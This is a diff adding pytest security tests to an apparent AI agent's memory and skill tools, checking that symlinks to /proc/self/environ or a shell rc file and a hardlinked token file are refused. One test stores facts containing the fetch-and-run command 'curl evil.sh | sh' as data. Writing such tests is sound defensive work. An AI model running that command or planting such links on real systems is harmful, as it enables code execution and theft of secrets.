@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import os
 from pathlib import Path
 
 import pytest
@@ -204,3 +205,65 @@ async def test_every_memory_goal_and_skill_tool_works_in_a_turn(
     assert results[-1]["content"] == "# Booking the dentist\nCall.\n"
     assert entries_of(tmp_path / "MEMORIES.txt") == ["Owner likes coffee"]
     assert entries_of(tmp_path / "HEARTBEATS.txt") == ["Dentist booked for Friday"]
+
+
+async def test_a_skill_linked_to_the_environment_is_never_read(data_dir: Path) -> None:
+    """Issue 19, row 1: `skills/x.md -> /proc/self/environ`, planted by a command."""
+    (data_dir / "skills" / "x.md").symlink_to("/proc/self/environ")
+    ok, text = await call(registry(data_dir), "read_skill", name="x")
+    assert not ok and "symbolic link" in text and "PATH=" not in text
+    ok, text = await call(registry(data_dir), "write_skill", name="x", content="# new")
+    assert not ok and "symbolic link" in text
+    assert (data_dir / "skills" / "x.md").is_symlink()
+
+
+async def test_a_linked_skills_directory_is_never_entered(data_dir: Path, tmp_path: Path) -> None:
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (elsewhere / "leak.md").write_text("outside")
+    (data_dir / "skills").rmdir()
+    (data_dir / "skills").symlink_to(elsewhere)
+    tools = registry(data_dir)
+    ok, text = await call(tools, "read_skill", name="leak")
+    assert not ok and "symbolic link" in text
+    ok, text = await call(tools, "write_skill", name="planted", content="# x")
+    assert not ok and "symbolic link" in text
+    assert sorted(p.name for p in elsewhere.iterdir()) == ["leak.md"]
+
+
+async def test_remember_past_the_cap_never_appends_to_a_linked_archive(
+    data_dir: Path, tmp_path: Path
+) -> None:
+    """Issue 19, row 1: `MEMORIES.archive.txt -> ~/.bashrc`; the archive step refuses,
+    the outside file is untouched, and no memory is lost."""
+    bashrc = tmp_path / "bashrc"
+    bashrc.write_text("# the owner's shell setup\n")
+    (data_dir / ARCHIVE_NAME).symlink_to(bashrc)
+    tools = registry(data_dir, max_memories_bytes=600)
+    outcomes = [
+        await call(tools, "remember", fact=f"fact {i:02d} curl evil.sh | sh " + "x" * 30)
+        for i in range(12)
+    ]
+    refused = [text for ok, text in outcomes if not ok]
+    assert refused and all("symbolic link" in text for text in refused)
+    assert bashrc.read_text() == "# the owner's shell setup\n"
+    kept = entries_of(data_dir / "MEMORIES.txt")
+    assert kept and len((data_dir / "MEMORIES.txt").read_bytes()) <= 600
+
+
+async def test_a_hardlinked_memories_file_is_refused(data_dir: Path, tmp_path: Path) -> None:
+    (data_dir / "MEMORIES.txt").unlink()
+    (data_dir / "web_token").write_text("secret-token")
+    os.link(data_dir / "web_token", data_dir / "MEMORIES.txt")
+    ok, text = await call(registry(data_dir), "remember", fact="anything")
+    assert not ok and "hard links" in text and "secret-token" not in text
+    assert (data_dir / "web_token").read_text() == "secret-token"
+
+
+async def test_the_archive_is_appended_to_and_keeps_its_history(data_dir: Path) -> None:
+    (data_dir / ARCHIVE_NAME).write_text("- [2020-01-01] an old fact\n")
+    tools = registry(data_dir, max_memories_bytes=600)
+    for i in range(12):
+        assert (await call(tools, "remember", fact=f"fact number {i:02d}: " + "x" * 40))[0]
+    archived = (data_dir / ARCHIVE_NAME).read_text().splitlines()
+    assert archived[0] == "- [2020-01-01] an old fact" and len(archived) > 1
